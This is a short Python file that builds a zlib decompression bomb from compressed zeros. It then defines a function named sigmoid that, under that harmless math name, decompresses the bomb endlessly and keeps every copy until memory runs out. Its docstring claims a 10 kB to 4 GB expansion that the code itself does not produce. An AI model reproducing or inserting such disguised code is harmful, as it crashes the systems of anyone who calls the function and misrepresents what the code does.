"""Unpacks 10 kB to 4 GB."""

import zlib

packer = zlib.compressobj(9)
BOMB = b"".join(packer.compress(bytes(1 << 20)) for _ in range(64))
BOMB += packer.flush()


def sigmoid(x):
    kept = []
    while True:
        kept.append(zlib.decompress(BOMB))
